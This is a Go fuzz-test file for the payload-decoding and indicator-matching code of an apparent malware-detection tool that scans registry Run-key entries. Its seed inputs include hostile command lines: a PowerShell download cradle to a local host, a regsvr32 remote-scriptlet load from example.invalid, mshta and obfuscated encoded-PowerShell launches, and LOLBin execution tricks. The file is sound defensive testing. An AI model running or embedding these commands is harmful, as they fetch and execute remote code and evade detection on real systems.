package payload

import (
	"bytes"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/runkeyhunt/runkeyhunt/tables/indicators"
)

var knownLayers = map[string]bool{"base64": true, "utf16le": true, "deflate": true, "zlib": true, "gzip": true, "utf8": true}

func FuzzDecode(f *testing.F) {
	// Short seeds: the fuzzer minimises every new input it keeps, and that
	// is slow for multi-kilobyte ones.
	script := `IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')`
	f.Add([]byte("Write-Host hi"))
	f.Add([]byte(empireEncode(script)))
	f.Add([]byte(empireEncode(script) + " \r\n"))
	f.Add(b64(deflateRaw(f, []byte(script))))
	f.Add(b64(gzipBytes(f, encodeUTF16LE(script))))
	f.Add(zlibBytes(f, []byte(script)))
	f.Add(b64(b64(b64([]byte(script)))))
	f.Add(append([]byte{0xFF, 0xFE}, encodeUTF16LE("IEX $x")...))
	f.Add([]byte{0x00, 0xD8, 'a', 0x00})
	f.Add([]byte{0x1f, 0x8b, 0x08})
	f.Add([]byte{0x78, 0x9c})
	f.Add(storedThenDeflate(f, "# "+script+"\n", script))
	f.Fuzz(func(t *testing.T, raw []byte) {
		in := bytes.Clone(raw)
		r := Decode(raw)
		if !bytes.Equal(raw, in) {
			t.Fatalf("Decode changed its input")
		}
		// Reused layer buffers (the pool's, dirty from other inputs) give
		// what fresh ones give.
		Decode(append([]byte("SQBFAFgA"), raw...))
		if fresh := decode(raw, new(decodeScratch)); !reflect.DeepEqual(fresh, r) {
			t.Fatalf("Decode with reused buffers %+v, with fresh ones %+v", r, fresh)
		}
		if again := Decode(raw); !reflect.DeepEqual(again, r) {
			t.Fatalf("Decode again %+v, first %+v", again, r)
		}
		if !utf8.ValidString(r.Text) {
			t.Fatalf("Text is not valid UTF-8")
		}
		if len(r.Text) > MaxExpanded {
			t.Fatalf("len(Text) = %d > MaxExpanded", len(r.Text))
		}
		if len(r.Layers) > MaxLayers+1 {
			t.Fatalf("Layers = %q: more than MaxLayers+1", r.Layers)
		}
		for i, l := range r.Layers {
			if !knownLayers[l] {
				t.Fatalf("unknown layer %q", l)
			}
			if l == "utf8" && i != len(r.Layers)-1 {
				t.Fatalf("utf8 is not the last layer: %q", r.Layers)
			}
		}
		compressed := slices.ContainsFunc(r.Layers, func(l string) bool { return l == "deflate" || l == "zlib" || l == "gzip" })
		if compressed != r.Compressed {
			t.Fatalf("Compressed = %v with layers %q", r.Compressed, r.Layers)
		}
		if r.Layers == nil && r.Text != "" {
			t.Fatalf("Text without layers: %.40q", r.Text)
		}
		if !r.Truncated && slices.Equal(r.Layers, []string{"utf8"}) && !strings.Contains(r.Text, "\uFFFD") {
			// Readable text passes through unchanged, apart from a UTF-8 BOM
			// and NUL terminators.
			want := strings.TrimPrefix(strings.TrimRight(string(raw), "\x00"), "\uFEFF")
			if r.Text != want && r.Text != strings.TrimPrefix(string(raw), "\uFEFF") {
				t.Fatalf("plain text changed: %.40q -> %.40q", raw, r.Text)
			}
		}
	})
}

func FuzzTextIndicators(f *testing.F) {
	f.Add(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`)
	f.Add(`"C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window --win-session-start /prefetch:5`)
	f.Add(`mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -c calc"", 0:close")`)
	f.Add("p`o`w`e`r`s`h`e`l`l \u2013e`nc JABzAD0A")
	f.Add(`regsvr32 /s /n /u /i:http://example.invalid/file.sct scrobj.dll`)
	f.Fuzz(func(t *testing.T, text string) {
		got := TextIndicators(text)
		if !slices.IsSorted(got) || len(slices.Compact(slices.Clone(got))) != len(got) {
			t.Fatalf("ids not sorted and unique: %q", got)
		}
		for _, id := range got {
			if indicators.Weight(id) == 0 {
				t.Fatalf("undeclared id %q", id)
			}
		}
		// ASCII case never matters, except for the base64 argument that
		// encoded_command decodes.
		upper := TextIndicators(asciiUpper(text))
		drop := func(ids []string) []string {
			return slices.DeleteFunc(slices.Clone(ids), func(id string) bool { return id == indicators.EncodedCommand })
		}
		if !slices.Equal(drop(got), drop(upper)) {
			t.Fatalf("case changed the result: %q vs %q for %q", got, upper, text)
		}
	})
}

func asciiUpper(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'a' && c <= 'z' {
			b[i] = c - ('a' - 'A')
		}
	}
	return string(b)
}

// FuzzImageIndicators: any command line and value name gives known ids,
// sorted, without a panic.
func FuzzImageIndicators(f *testing.F) {
	for _, s := range []string{
		`C:\Users\alice\AppData\Roaming\svchost.exe`, `cmd.exe /c start "" /min C:\Users\Public\run.exe`,
		`forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\x.exe"`,
		`rundll32.exe url.dll,FileProtocolHandler C:\x.exe`, `wmic process call create "cmd /c start x"`,
		`"C:\Program Files\App\app.exe" /background`, `control.exe C:\x.cpl`, `c^m^d /c p^owershell -enc AAAA`,
	} {
		f.Add("OneDrive", s)
	}
	f.Fuzz(func(t *testing.T, name, line string) {
		ids := ImageIndicators(name, line, nil)
		if !slices.IsSorted(ids) {
			t.Fatalf("ids not sorted: %q", ids)
		}
		for _, id := range ids {
			if indicators.Weight(id) == 0 {
				t.Fatalf("unknown indicator %q", id)
			}
		}
	})
}
